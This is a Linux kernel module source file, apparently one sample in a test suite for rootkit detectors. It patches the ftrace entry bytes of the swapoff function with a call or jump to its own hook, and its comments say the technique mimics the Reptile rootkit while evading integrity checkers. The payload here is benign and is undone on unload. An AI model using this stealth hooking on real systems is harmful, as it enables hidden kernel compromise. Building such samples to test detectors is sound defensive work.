// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the place at a function's start that ftrace patches, patched without ftrace: a call of the module
 * (how=call: looks as if the function were traced, its record's flags say nothing), or a jump (how=jump).
 * Who: the quiet form of what Reptile does; hides where checkers mask ftrace's places.
 * Changes: 5 bytes of the function of swapoff, which nobody calls here. Undone when it is unloaded.
 */
#include "attack.h"

KERNEL_SYMBOL_SWAPOFF;
VARIANT("call");

static u8 *site, original[5];

static noinline long hooked_function(void)
{
	return -EPERM;
}

static int __init start(void)
{
	u8 bytes[5];

	if (!swapoff_at)
		return -ENOENT;
	site = ftrace_site(swapoff_at);
	memcpy(original, site, 5);
	branch(bytes, HOW("call") ? 0xe8 : 0xe9, site, hooked_function);
	write_protected(site, bytes, 5);
	return 0;
}

static void __exit stop(void)
{
	write_protected(site, original, 5);
}

ATTACK(start, stop);
